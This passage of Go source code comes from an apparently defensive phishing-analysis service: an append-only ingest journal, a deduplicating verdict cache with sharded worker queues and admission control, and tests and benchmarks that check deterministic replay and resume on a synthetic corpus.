// yields a byte-identical verdict stream for any worker count.
type Log struct {
	ev *evstore.Store
}

// CreateLog creates (or truncates) an ingest log at path.
func CreateLog(path string) (*Log, error) {
	ev, err := evstore.Create(path)
	if err != nil {
		return nil, err
	}
	return &Log{ev: ev}, nil
}

// OpenLog opens an existing ingest log for appending — the restarted
// daemon's path: recover state with ReadLog, then continue journaling to
// the same file.
func OpenLog(path string) (*Log, error) {
	ev, err := evstore.OpenAppend(path)
	if err != nil {
		return nil, err
	}
	return &Log{ev: ev}, nil
}

// AppendSpec journals one accepted submission.
func (l *Log) AppendSpec(s Spec) error {
	if l == nil {
		return nil
	}
	payload, err := json.Marshal(s)
	if err != nil {
		return err
	}
	if _, err := l.ev.Append(evstore.KindIngestSpec, payload); err != nil {
		return err
	}
	return l.ev.Flush()
}

// AppendDone journals one emitted verdict.
func (l *Log) AppendDone(e Emitted) error {
	if l == nil {
		return nil
	}
	payload, err := json.Marshal(e)
	if err != nil {
		return err
	}
	if _, err := l.ev.Append(evstore.KindIngestDone, payload); err != nil {
		return err
	}
	return l.ev.Flush()
}

// Close closes the journal file.
func (l *Log) Close() error {
	if l == nil {
		return nil
	}
	return l.ev.Close()
}

// LogState is the decoded content of an ingest log: the accepted specs in
// submission order and the verdicts already emitted, keyed by message ID.
type LogState struct {
	Specs []Spec
	Done  map[int64]Emitted
}

// ReadLog scans an ingest log. Both Replay (batch-to-completion) and a
// restarting daemon recover their state from this one view.
func ReadLog(path string) (*LogState, error) {
	ev, err := evstore.Open(path)
	if err != nil {
		return nil, err
	}
	defer ev.Close()
	state := &LogState{Done: map[int64]Emitted{}}
	seen := map[int64]bool{}
	var scanErr error
	err = ev.Each(func(_ evstore.Handle, kind evstore.Kind, payload []byte) bool {
		switch kind {
		case evstore.KindIngestSpec:
			var s Spec
			if err := json.Unmarshal(payload, &s); err != nil {
				scanErr = fmt.Errorf("ingest: decoding spec record: %w", err)
				return false
			}
			if seen[s.ID] {
				scanErr = fmt.Errorf("ingest: duplicate spec id %d in log", s.ID)
				return false
			}
			seen[s.ID] = true
			state.Specs = append(state.Specs, s)
		case evstore.KindIngestDone:
			var e Emitted
			if err := json.Unmarshal(payload, &e); err != nil {
				scanErr = fmt.Errorf("ingest: decoding done record: %w", err)
				return false
			}
			state.Done[e.ID] = e
		}
		return true
	})
	if scanErr != nil {
		return nil, scanErr
	}
	if err != nil {
		return nil, err
	}
	for id := range state.Done {
		if !seen[id] {
			return nil, fmt.Errorf("ingest: done record for unknown spec id %d", id)
		}
	}
	return state, nil
}
