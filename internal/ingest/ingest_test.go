package ingest

import (
	"bytes"
	"context"
	"path/filepath"
	"sort"
	"sync"
	"testing"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/tracestore"
)

// buildWorld generates a fresh seed-7 world and its pipeline. Each caller
// gets its own: analyses mutate world state (harvested credentials,
// issued challenge tokens), so runs under byte-comparison must not share
// one.
func buildWorld(t testing.TB) (*dataset.Corpus, *crawlerbox.Pipeline) {
	t.Helper()
	c, err := dataset.Generate(dataset.Config{Seed: 7, Scale: 0.1})
	if err != nil {
		t.Fatal(err)
	}
	pipe := crawlerbox.New(c.Net, c.Registry)
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(context.Background(), b, c.BrandURLs[b]); err != nil {
			t.Fatal(err)
		}
	}
	return c, pipe
}

// specWindowStart selects the corpus tail the ingest tests run on: the
// seed-7 corpus delivers its domain-reusing active-phish messages late, so
// this window is where duplicate landing URLs (cache hits) live.
const specWindowStart = 450

// corpusSpecs converts the windowed corpus messages into ingest specs the
// way the corpus runners do: sequential IDs, analyzed two hours after
// delivery.
func corpusSpecs(c *dataset.Corpus) []Spec {
	msgs := c.Messages[specWindowStart:]
	specs := make([]Spec, len(msgs))
	for i := range msgs {
		specs[i] = Spec{ID: int64(i + 1), At: msgs[i].Delivered.Add(2 * time.Hour), Raw: msgs[i].Raw}
	}
	return specs
}

// recordLog writes a canned spec-only ingest log.
func recordLog(t testing.TB, path string, specs []Spec) {
	t.Helper()
	log, err := CreateLog(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range specs {
		if err := log.AppendSpec(s); err != nil {
			t.Fatal(err)
		}
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
}


// replayStream replays a log against a fresh world and renders the
// canonical verdict stream.
func replayStream(t *testing.T, logPath string, opts ...Option) ([]byte, Counters) {
	t.Helper()
	_, pipe := buildWorld(t)
	res, err := Replay(context.Background(), logPath, pipe, PipelineKeyer(pipe), opts...)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := res.WriteVerdictStream(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), res.Counters
}

// TestReplayDeterminism pins the headline contract: replaying the same
// ingest log is byte-identical for any worker count, with identical
// cache-hit counters.
func TestReplayDeterminism(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "ingest.log")
	c, _ := buildWorld(t)
	recordLog(t, logPath, corpusSpecs(c))

	stream1, counters1 := replayStream(t, logPath, WithWorkers(1))
	stream8, counters8 := replayStream(t, logPath, WithWorkers(8), WithQueueDepth(4))

	if !bytes.Equal(stream1, stream8) {
		t.Fatalf("verdict streams differ between workers 1 and 8 (%d vs %d bytes)",
			len(stream1), len(stream8))
	}
	if counters1 != counters8 {
		t.Fatalf("counters differ: %+v vs %+v", counters1, counters8)
	}
	if counters1.CacheHits == 0 {
		t.Fatal("corpus produced no cache hits; the dedup contract is untested")
	}
	if counters1.Fresh+counters1.CacheHits != counters1.Submitted {
		t.Fatalf("counters don't balance: %+v", counters1)
	}
}

// TestKillResumeDeterminism pins checkpoint/resume: a log whose done
// records cover only part of the work (the crash snapshot) replays to the
// same verdict stream as the uninterrupted run — nothing lost, nothing
// re-analyzed, re-emitted rows byte-identical.
func TestKillResumeDeterminism(t *testing.T) {
	dir := t.TempDir()
	fullPath := filepath.Join(dir, "full.log")
	c, pipe := buildWorld(t)
	specs := corpusSpecs(c)

	// Uninterrupted journaled run: the reference stream plus a complete
	// journal.
	log, err := CreateLog(fullPath)
	if err != nil {
		t.Fatal(err)
	}
	svc := NewService(pipe, PipelineKeyer(pipe), log, WithWorkers(4))
	svc.Start(context.Background())
	if err := svc.SubmitBatch(context.Background(), specs); err != nil {
		t.Fatal(err)
	}
	ref, err := svc.Drain()
	if err != nil {
		t.Fatal(err)
	}
	var refStream bytes.Buffer
	if err := ref.WriteVerdictStream(&refStream); err != nil {
		t.Fatal(err)
	}

	// Crash snapshot: all specs, but only half the done records — as if
	// the daemon died mid-run. Journals append dones in completion order;
	// any subset is a valid crash state, so an arbitrary one must resume
	// correctly.
	state, err := ReadLog(fullPath)
	if err != nil {
		t.Fatal(err)
	}
	crashPath := filepath.Join(dir, "crash.log")
	crash, err := CreateLog(crashPath)
	if err != nil {
		t.Fatal(err)
	}
	kept := 0
	for _, s := range specs {
		if err := crash.AppendSpec(s); err != nil {
			t.Fatal(err)
		}
	}
	for _, s := range specs {
		if e, ok := state.Done[s.ID]; ok && s.ID%2 == 0 {
			if err := crash.AppendDone(e); err != nil {
				t.Fatal(err)
			}
			kept++
		}
	}
	if err := crash.Close(); err != nil {
		t.Fatal(err)
	}
	if kept == 0 {
		t.Fatal("crash snapshot kept no done records")
	}

	resumedStream, resumedCounters := replayStream(t, crashPath, WithWorkers(8))
	if !bytes.Equal(refStream.Bytes(), resumedStream) {
		t.Fatalf("resumed stream differs from uninterrupted run (%d vs %d bytes)",
			refStream.Len(), len(resumedStream))
	}
	if resumedCounters.Resumed != int64(kept) {
		t.Fatalf("Resumed = %d, want %d", resumedCounters.Resumed, kept)
	}
}

// TestCacheOffOutcomesAgree pins the cache-transparency contract: with the
// dedup cache disabled every message runs the full pipeline, and the
// verdict outcomes agree with the cached run entry for entry — only
// provenance (and cost) differ.
func TestCacheOffOutcomesAgree(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "ingest.log")
	c, _ := buildWorld(t)
	recordLog(t, logPath, corpusSpecs(c))

	_, pipeOn := buildWorld(t)
	on, err := Replay(context.Background(), logPath, pipeOn, PipelineKeyer(pipeOn))
	if err != nil {
		t.Fatal(err)
	}
	_, pipeOff := buildWorld(t)
	off, err := Replay(context.Background(), logPath, pipeOff, PipelineKeyer(pipeOff), WithCache(false))
	if err != nil {
		t.Fatal(err)
	}
	if on.Counters.CacheHits == 0 || off.Counters.CacheHits != 0 {
		t.Fatalf("cache counters: on=%+v off=%+v", on.Counters, off.Counters)
	}
	if len(on.Emitted) != len(off.Emitted) {
		t.Fatalf("emission counts differ: %d vs %d", len(on.Emitted), len(off.Emitted))
	}
	for i := range on.Emitted {
		a, b := on.Emitted[i], off.Emitted[i]
		if a.ID != b.ID {
			t.Fatalf("entry %d: IDs differ (%d vs %d)", i, a.ID, b.ID)
		}
		if a.Verdict.Outcome != b.Verdict.Outcome || a.Verdict.ErrorKind != b.Verdict.ErrorKind {
			t.Errorf("id %d: outcome %q/%q (cached) vs %q/%q (fresh)",
				a.ID, a.Verdict.Outcome, a.Verdict.ErrorKind, b.Verdict.Outcome, b.Verdict.ErrorKind)
		}
		if b.Provenance != ProvenanceFresh {
			t.Errorf("id %d: cache-off provenance = %q", b.ID, b.Provenance)
		}
	}
}

// blockingAnalyzer is a test double whose Analyze blocks until released.
type blockingAnalyzer struct {
	release chan struct{}
	once    sync.Once
}

func (b *blockingAnalyzer) Analyze(ctx context.Context, spec crawlerbox.MessageSpec) (*crawlerbox.MessageAnalysis, error) {
	select {
	case <-b.release:
	case <-ctx.Done():
	}
	return nil, ctx.Err()
}

func (b *blockingAnalyzer) Release() { b.once.Do(func() { close(b.release) }) }

// TestAdmissionControl pins load shedding: with maxPending reached,
// Submit fails fast with ErrOverloaded, the spec is not journaled, and
// the rejection is counted.
func TestAdmissionControl(t *testing.T) {
	ba := &blockingAnalyzer{release: make(chan struct{})}
	keyer := func(raw []byte) string { return string(raw) }
	svc := NewService(ba, keyer, nil, WithWorkers(1), WithQueueDepth(1), WithMaxPending(2))
	ctx := context.Background()
	svc.Start(ctx)

	// Two distinct keys: the first occupies the worker, the second its
	// queue slot. Both are pending.
	if err := svc.Submit(ctx, Spec{ID: 1, Raw: []byte("a")}); err != nil {
		t.Fatal(err)
	}
	if err := svc.Submit(ctx, Spec{ID: 2, Raw: []byte("b")}); err != nil {
		t.Fatal(err)
	}
	err := svc.Submit(ctx, Spec{ID: 3, Raw: []byte("c")})
	if err != ErrOverloaded {
		t.Fatalf("Submit #3 = %v, want ErrOverloaded", err)
	}
	ba.Release()
	res, err := svc.Drain()
	if err != nil {
		t.Fatal(err)
	}
	if res.Counters.Rejected != 1 || res.Counters.Submitted != 2 {
		t.Fatalf("counters = %+v, want 1 rejection over 2 accepted", res.Counters)
	}
	if len(res.Emitted) != 2 {
		t.Fatalf("emitted %d verdicts, want 2", len(res.Emitted))
	}
}

// TestWaiterFlush pins the singleflight path: a second submission of an
// in-flight key becomes a waiter, is counted a cache hit at admission,
// and is emitted as cached once the source analysis completes.
func TestWaiterFlush(t *testing.T) {
	ba := &blockingAnalyzer{release: make(chan struct{})}
	keyer := func(raw []byte) string { return "same-key" }
	svc := NewService(ba, keyer, nil, WithWorkers(2))
	ctx := context.Background()
	svc.Start(ctx)
	if err := svc.Submit(ctx, Spec{ID: 1, Raw: []byte("a")}); err != nil {
		t.Fatal(err)
	}
	if err := svc.Submit(ctx, Spec{ID: 2, Raw: []byte("b")}); err != nil {
		t.Fatal(err)
	}
	counters, _ := svc.Stats()
	if counters.CacheHits != 1 || counters.Fresh != 1 {
		t.Fatalf("admission counters = %+v, want 1 fresh + 1 hit", counters)
	}
	ba.Release()
	res, err := svc.Drain()
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Emitted) != 2 {
		t.Fatalf("emitted %d verdicts, want 2", len(res.Emitted))
	}
	if res.Emitted[0].Provenance != ProvenanceFresh || res.Emitted[1].Provenance != ProvenanceCached {
		t.Fatalf("provenances = %q, %q", res.Emitted[0].Provenance, res.Emitted[1].Provenance)
	}
	if res.Emitted[1].CachedFrom != 1 {
		t.Fatalf("CachedFrom = %d, want 1", res.Emitted[1].CachedFrom)
	}
}

// TestLogRoundTrip pins the journal codec: specs and done records read
// back exactly, and appending to a reopened log continues it.
func TestLogRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "journal.log")
	specs := []Spec{
		{ID: 1, At: time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC), Raw: []byte("first")},
		{ID: 2, At: time.Date(2024, 3, 1, 11, 0, 0, 0, time.UTC), Raw: []byte("second")},
	}
	log, err := CreateLog(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := log.AppendSpec(specs[0]); err != nil {
		t.Fatal(err)
	}
	done := Emitted{ID: 1, Provenance: ProvenanceFresh, Key: "https://k.example/",
		Verdict: tracestore.Verdict{ID: 1, Outcome: "error-page"}}
	if err := log.AppendDone(done); err != nil {
		t.Fatal(err)
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen for append — the restarted-daemon path.
	log2, err := OpenLog(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := log2.AppendSpec(specs[1]); err != nil {
		t.Fatal(err)
	}
	if err := log2.Close(); err != nil {
		t.Fatal(err)
	}

	state, err := ReadLog(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(state.Specs) != 2 || state.Specs[0].ID != 1 || state.Specs[1].ID != 2 {
		t.Fatalf("specs = %+v", state.Specs)
	}
	if string(state.Specs[1].Raw) != "second" || !state.Specs[1].At.Equal(specs[1].At) {
		t.Fatalf("spec 2 round-trip = %+v", state.Specs[1])
	}
	got, ok := state.Done[1]
	if !ok || got.Verdict.Outcome != "error-page" || got.Provenance != ProvenanceFresh {
		t.Fatalf("done record round-trip = %+v (ok=%v)", got, ok)
	}
}
