package ingest

import (
	"context"
	"path/filepath"
	"testing"

	"crawlerbox/internal/tracestore"
)

// BenchmarkIngestThroughput measures end-to-end service throughput: replay
// of a canned corpus log through the full pipeline with the dedup cache
// on, at the daemon's default worker count. Reported messages share
// landing domains at the paper's rate (mean 2.62 messages per domain), so
// the figure includes the cache's dedup savings.
func BenchmarkIngestThroughput(b *testing.B) {
	logPath := filepath.Join(b.TempDir(), "ingest.log")
	c, _ := buildWorld(b)
	specs := corpusSpecs(c)
	recordLog(b, logPath, specs)
	b.ReportMetric(float64(len(specs)), "msgs/op")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		_, pipe := buildWorld(b)
		b.StartTimer()
		res, err := Replay(context.Background(), logPath, pipe, PipelineKeyer(pipe),
			WithWorkers(4), WithQueueDepth(4))
		if err != nil {
			b.Fatal(err)
		}
		if res.Counters.CacheHits == 0 {
			b.Fatal("benchmark corpus produced no cache hits")
		}
	}
}

// BenchmarkVerdictCacheHit measures the cache-hit fast path in isolation:
// admission of a submission whose key's verdict is already stored — the
// cost of serving one deduplicated report, no pipeline involved.
func BenchmarkVerdictCacheHit(b *testing.B) {
	c, pipe := buildWorld(b)
	keyer := PipelineKeyer(pipe)

	// Pre-resolve keys so the benchmark targets the cache, not the parser.
	var keys []string
	for _, s := range corpusSpecs(c) {
		if k := keyer(s.Raw); k != "" {
			keys = append(keys, k)
		}
	}
	if len(keys) == 0 {
		b.Fatal("no keyable messages in corpus")
	}
	cache := newVerdictCache()
	for i, k := range keys {
		cache.warm(k, int64(i+1), tracestore.Verdict{ID: int64(i + 1), Outcome: "credential-phish"})
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		adm, _, _ := cache.admit(keys[i%len(keys)], int64(i)+1e6)
		if adm != admitHit {
			b.Fatalf("admission = %d, want hit", adm)
		}
	}
}
