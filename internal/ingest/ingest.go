// Package ingest turns the batch analysis pipeline into a continuous
// service: reported message specs are submitted one at a time (or over
// HTTP via cmd/crawlerboxd), journaled to an append-only ingest log,
// admitted through a sharded verdict dedup cache keyed by canonical URL,
// and fed to sharded work queues with backpressure and admission control.
//
// The cache is the scaling lever: the paper measures a mean of 2.62
// reported messages per landing domain (max 58), so at production volume
// most submissions are cache hits that re-emit a stored verdict with a
// "cached" provenance mark instead of running the crawl pipeline. Hit or
// miss is decided at admission time, under the cache shard lock, in
// submission order — so provenance marks and hit counters are a pure
// function of the submission sequence, never of scheduling.
//
// Determinism contract: replaying the same ingest log produces a
// byte-identical verdict stream for any worker count, across a kill and
// resume from the journal's checkpoint, and with the cache disabled the
// verdict outcomes agree entry for entry (only provenance and cost
// differ). The executable proof is TestReplayDeterminism and the
// `make servecheck` gate.
package ingest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"hash/fnv"
	"io"
	"sort"
	"sync"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/tracestore"
)

// ErrOverloaded is returned by Submit when admission control rejects the
// submission: the count of admitted-but-unemitted messages is at the
// configured limit. The caller sheds load (an HTTP server answers 503);
// the spec is NOT journaled, so a later resubmission is safe.
var ErrOverloaded = errors.New("ingest: service overloaded")

// ErrDraining is returned by Submit after Drain has begun.
var ErrDraining = errors.New("ingest: service draining")

// Analyzer runs one message spec through the analysis pipeline.
// *crawlerbox.Pipeline is the production implementation.
type Analyzer interface {
	Analyze(ctx context.Context, spec crawlerbox.MessageSpec) (*crawlerbox.MessageAnalysis, error)
}

// KeyFunc derives the verdict-cache key from raw message bytes. An empty
// key marks the message uncacheable (no URL): it always runs fresh.
type KeyFunc func(raw []byte) string

// PipelineKeyer derives the cache key with the pipeline's own parse phase:
// the first canonical URL extracted from the message. Gateway URL rewrites
// are decoded during extraction (crawlerbox/parse), so a Safe Links
// wrapping of an already-seen landing URL is a cache hit, not a miss.
func PipelineKeyer(p *crawlerbox.Pipeline) KeyFunc {
	return func(raw []byte) string {
		res, err := p.ParseMessage(raw)
		if err != nil || len(res.URLs) == 0 {
			return ""
		}
		return res.URLs[0].URL
	}
}

// Provenance marks of an emitted verdict.
const (
	// ProvenanceFresh marks a verdict produced by a full pipeline run.
	ProvenanceFresh = "fresh"
	// ProvenanceCached marks a verdict re-emitted from the dedup cache.
	ProvenanceCached = "cached"
)

// Emitted is one verdict emission: the service's output unit and the
// KindIngestDone journal payload. Field order is part of the on-disk and
// stream format.
type Emitted struct {
	// ID is the submission's message ID.
	ID int64 `json:"id"`
	// Provenance is ProvenanceFresh or ProvenanceCached.
	Provenance string `json:"provenance"`
	// Key is the verdict-cache key (canonical URL); empty for uncacheable
	// messages.
	Key string `json:"key,omitempty"`
	// CachedFrom is the source message whose analysis produced a cached
	// verdict; zero for fresh emissions.
	CachedFrom int64 `json:"cached_from,omitempty"`
	// Verdict is the triage row, with ID rewritten to this submission's.
	Verdict tracestore.Verdict `json:"verdict"`
}

// Counters are the service's monotonic statistics. Every counter is
// assigned at admission or completion of work fixed by the submission
// sequence, so replaying a log yields identical counters for any worker
// count.
type Counters struct {
	// Submitted counts accepted submissions (journaled specs).
	Submitted int64 `json:"submitted"`
	// Fresh counts submissions that ran the full pipeline.
	Fresh int64 `json:"fresh"`
	// CacheHits counts submissions served from the verdict cache
	// (directly or as waiters on an in-flight analysis).
	CacheHits int64 `json:"cache_hits"`
	// Keyless counts submissions with no extractable URL (always fresh).
	Keyless int64 `json:"keyless"`
	// Rejected counts submissions shed by admission control.
	Rejected int64 `json:"rejected"`
	// Resumed counts verdicts re-emitted verbatim from a checkpoint.
	Resumed int64 `json:"resumed"`
}

// Result is a drained service's output: every emission sorted by message
// ID plus the final counters. WriteVerdictStream renders the canonical
// byte stream the determinism contract is pinned on.
type Result struct {
	Emitted  []Emitted
	Counters Counters
}

// WriteVerdictStream writes the canonical verdict stream: one JSON line
// per emission in ascending message-ID order. Replaying the same ingest
// log writes identical bytes for any worker count.
func (r *Result) WriteVerdictStream(w io.Writer) error {
	for i := range r.Emitted {
		line, err := json.Marshal(&r.Emitted[i])
		if err != nil {
			return err
		}
		if _, err := w.Write(append(line, '\n')); err != nil {
			return err
		}
	}
	return nil
}

// options collects the service configuration assembled by Option values —
// the same functional-options surface report.Analyze uses, so batch runs,
// replays, and the daemon are configured in one vocabulary.
type options struct {
	workers    int
	queueDepth int
	maxPending int
	cacheOff   bool
}

// Option configures one aspect of a Service.
type Option func(*options)

// WithWorkers sets the analysis worker-pool size (default 1). One work
// queue is created per worker; keyed submissions shard by key hash.
func WithWorkers(n int) Option {
	return func(o *options) { o.workers = n }
}

// WithQueueDepth bounds each worker queue (default 2). A full queue
// blocks Submit — the backpressure that keeps peak memory O(workers).
func WithQueueDepth(n int) Option {
	return func(o *options) { o.queueDepth = n }
}

// WithMaxPending arms admission control: when more than n submissions are
// admitted but not yet emitted, Submit fails with ErrOverloaded instead
// of blocking. Zero (the default) disables shedding — replays run to
// completion unconditionally.
func WithMaxPending(n int) Option {
	return func(o *options) { o.maxPending = n }
}

// WithCache enables or disables the verdict dedup cache (default on).
// Disabled, every submission runs the full pipeline; verdict outcomes are
// identical either way — only provenance and cost differ.
func WithCache(enabled bool) Option {
	return func(o *options) { o.cacheOff = !enabled }
}

// job is one unit of fresh analysis work on a shard queue.
type job struct {
	spec Spec
	key  string
}

// Service is the continuous-ingest daemon core. Submissions flow through
// admission (journal, admission control, cache consult) into per-worker
// shard queues; workers run the pipeline and complete cache entries,
// flushing any waiters. Drain stops intake, waits for in-flight work, and
// returns the Result.
type Service struct {
	analyzer Analyzer
	keyer    KeyFunc
	o        options
	log      *Log
	cache    *verdictCache
	queues   []chan job
	wg       sync.WaitGroup
	started  bool

	// admitMu serializes admission so journal order, cache consults, and
	// counters all see one total submission order.
	admitMu sync.Mutex
	// mu guards the emission buffer, counters, and pending count.
	mu       sync.Mutex
	emitted  []Emitted // guarded by mu
	counters Counters  // guarded by mu
	pending  int       // guarded by mu
	draining bool      // read/written under admitMu (see submitLocked/Drain)
	emitErr  error     // guarded by mu
}

// NewService assembles a service around an analyzer and a cache keyer.
// A nil log runs without a journal (no checkpoint/resume); see WithLog.
func NewService(a Analyzer, keyer KeyFunc, log *Log, opts ...Option) *Service {
	o := options{workers: 1, queueDepth: 2}
	for _, fn := range opts {
		fn(&o)
	}
	if o.workers < 1 {
		o.workers = 1
	}
	if o.queueDepth < 1 {
		o.queueDepth = 1
	}
	s := &Service{analyzer: a, keyer: keyer, o: o, log: log}
	if !o.cacheOff {
		s.cache = newVerdictCache()
	}
	s.queues = make([]chan job, o.workers)
	for i := range s.queues {
		s.queues[i] = make(chan job, o.queueDepth)
	}
	return s
}

// Start launches the worker pool. ctx cancels in-flight analyses; work
// already admitted still emits (a failed-analysis verdict when cancelled).
func (s *Service) Start(ctx context.Context) {
	if s.started {
		return
	}
	s.started = true
	for i := range s.queues {
		s.wg.Add(1)
		go func(q <-chan job) {
			defer s.wg.Done()
			for j := range q {
				ma, err := s.analyzer.Analyze(ctx, crawlerbox.MessageSpec{
					Raw: j.spec.Raw, ID: j.spec.ID, At: j.spec.At,
				})
				s.complete(j, tracestore.VerdictOf(j.spec.ID, ma, err))
			}
		}(s.queues[i])
	}
}

// Submit admits one reported message: journal, admission control, cache
// consult, then either an immediate cached emission or a queued fresh
// analysis. Submissions are totally ordered; a full shard queue blocks
// (backpressure) until a worker frees a slot or ctx is cancelled.
func (s *Service) Submit(ctx context.Context, spec Spec) error {
	s.admitMu.Lock()
	defer s.admitMu.Unlock()
	return s.submitLocked(ctx, spec, false)
}

// SubmitBatch admits specs in order, stopping at the first error.
func (s *Service) SubmitBatch(ctx context.Context, specs []Spec) error {
	s.admitMu.Lock()
	defer s.admitMu.Unlock()
	for _, spec := range specs {
		if err := s.submitLocked(ctx, spec, false); err != nil {
			return err
		}
	}
	return nil
}

// submitLocked is the admission path; callers hold admitMu. resumed marks
// specs re-admitted from a recovered journal, which are not re-journaled.
func (s *Service) submitLocked(ctx context.Context, spec Spec, resumed bool) error {
	if !s.started {
		return errors.New("ingest: service not started")
	}
	if s.draining {
		return ErrDraining
	}
	s.mu.Lock()
	if s.o.maxPending > 0 && s.pending >= s.o.maxPending {
		s.counters.Rejected++
		s.mu.Unlock()
		return ErrOverloaded
	}
	s.counters.Submitted++
	s.mu.Unlock()
	if !resumed {
		if err := s.log.AppendSpec(spec); err != nil {
			return fmt.Errorf("ingest: journaling spec %d: %w", spec.ID, err)
		}
	}

	key := s.keyer(spec.Raw)
	if key == "" || s.cache == nil {
		s.mu.Lock()
		if key == "" {
			s.counters.Keyless++
		}
		s.counters.Fresh++
		s.pending++
		s.mu.Unlock()
		return s.enqueue(ctx, job{spec: spec, key: key})
	}

	switch adm, v, sourceID := s.cache.admit(key, spec.ID); adm {
	case admitHit:
		s.mu.Lock()
		s.counters.CacheHits++
		s.mu.Unlock()
		s.emit(cachedEmission(spec.ID, key, sourceID, v), true)
		return s.emitError()
	case admitWait:
		s.mu.Lock()
		s.counters.CacheHits++
		s.pending++
		s.mu.Unlock()
		return nil
	default: // admitFresh
		s.mu.Lock()
		s.counters.Fresh++
		s.pending++
		s.mu.Unlock()
		return s.enqueue(ctx, job{spec: spec, key: key})
	}
}

// enqueue pushes a job onto its shard queue, blocking for backpressure.
func (s *Service) enqueue(ctx context.Context, j job) error {
	q := s.queues[s.shardOf(j)]
	select {
	case q <- j:
		return nil
	case <-ctx.Done():
		// The spec is journaled but never ran: it stays pending in the
		// log and a resume will pick it up.
		s.mu.Lock()
		s.pending--
		s.mu.Unlock()
		return ctx.Err()
	}
}

// shardOf routes a job to a worker queue: keyed jobs by key hash (cache
// affinity), keyless jobs by ID.
func (s *Service) shardOf(j job) int {
	h := fnv.New32a()
	if j.key != "" {
		_, _ = h.Write([]byte(j.key))
	} else {
		var b [8]byte
		for i := 0; i < 8; i++ {
			b[i] = byte(uint64(j.spec.ID) >> (8 * i))
		}
		_, _ = h.Write(b[:])
	}
	return int(h.Sum32() % uint32(len(s.queues)))
}

// complete records a fresh verdict, fills the cache entry, and flushes
// any waiters as cached emissions.
func (s *Service) complete(j job, v tracestore.Verdict) {
	s.emit(Emitted{ID: j.spec.ID, Provenance: ProvenanceFresh, Key: j.key, Verdict: v}, true)
	s.mu.Lock()
	s.pending--
	s.mu.Unlock()
	if j.key == "" || s.cache == nil {
		return
	}
	waiters, sourceID := s.cache.complete(j.key, v)
	for _, id := range waiters {
		s.emit(cachedEmission(id, j.key, sourceID, v), true)
		s.mu.Lock()
		s.pending--
		s.mu.Unlock()
	}
}

// cachedEmission re-emits a stored verdict for submission id, rewriting
// the row's ID and recording the source analysis.
func cachedEmission(id int64, key string, sourceID int64, v tracestore.Verdict) Emitted {
	v.ID = id
	return Emitted{ID: id, Provenance: ProvenanceCached, Key: key, CachedFrom: sourceID, Verdict: v}
}

// emit buffers one emission and journals its done record.
func (s *Service) emit(e Emitted, journal bool) {
	var logErr error
	if journal {
		logErr = s.log.AppendDone(e)
	}
	s.mu.Lock()
	s.emitted = append(s.emitted, e)
	if logErr != nil && s.emitErr == nil {
		s.emitErr = logErr
	}
	s.mu.Unlock()
}

// emitError reports the first journal failure, if any.
func (s *Service) emitError() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.emitErr
}

// Resume re-admits a recovered journal's state: done records re-emit
// verbatim (their provenance preserved, no re-journaling), fresh done
// records warm the cache, and the remaining specs re-enter admission in
// log order. A daemon restarted on its own log therefore neither loses
// nor re-analyzes work.
func (s *Service) Resume(ctx context.Context, state *LogState) error {
	s.admitMu.Lock()
	defer s.admitMu.Unlock()
	if !s.started {
		return errors.New("ingest: service not started")
	}
	for _, spec := range state.Specs {
		if e, ok := state.Done[spec.ID]; ok {
			if s.cache != nil && e.Provenance == ProvenanceFresh && e.Key != "" {
				s.cache.warm(e.Key, e.ID, e.Verdict)
			}
			s.mu.Lock()
			s.counters.Submitted++
			s.counters.Resumed++
			if e.Provenance == ProvenanceCached {
				s.counters.CacheHits++
			} else {
				s.counters.Fresh++
				if e.Key == "" {
					s.counters.Keyless++
				}
			}
			s.mu.Unlock()
			s.emit(e, false)
			continue
		}
		if err := s.submitLocked(ctx, spec, true); err != nil {
			return err
		}
	}
	return nil
}

// Drain stops intake, waits for every in-flight analysis and waiter
// flush, and returns the sorted Result. The service cannot be reused.
func (s *Service) Drain() (*Result, error) {
	s.admitMu.Lock()
	if s.draining {
		s.admitMu.Unlock()
		return nil, errors.New("ingest: already drained")
	}
	s.draining = true
	s.admitMu.Unlock()
	for _, q := range s.queues {
		close(q)
	}
	s.wg.Wait()
	if err := s.log.Close(); err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.emitErr != nil {
		return nil, s.emitErr
	}
	sort.Slice(s.emitted, func(i, j int) bool { return s.emitted[i].ID < s.emitted[j].ID })
	return &Result{Emitted: s.emitted, Counters: s.counters}, nil
}

// Stats returns a point-in-time copy of the counters plus the current
// pending depth — the daemon's /api/stats payload.
func (s *Service) Stats() (Counters, int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.counters, s.pending
}

// Emission returns the verdict already emitted for message id, if any —
// the daemon's /api/verdict lookup. A submission still in flight (or
// never submitted) reports false.
func (s *Service) Emission(id int64) (Emitted, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := range s.emitted {
		if s.emitted[i].ID == id {
			return s.emitted[i], true
		}
	}
	return Emitted{}, false
}
