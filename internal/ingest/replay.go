package ingest

import (
	"context"

	"crawlerbox/internal/obs"
	"crawlerbox/internal/tracestore"
)

// Replay runs an ingest log to completion: this is the batch mode of the
// service API. The log is read, done records re-emit verbatim, and every
// spec without a done record is analyzed, all under the same admission
// path a live daemon uses — so the returned verdict stream is
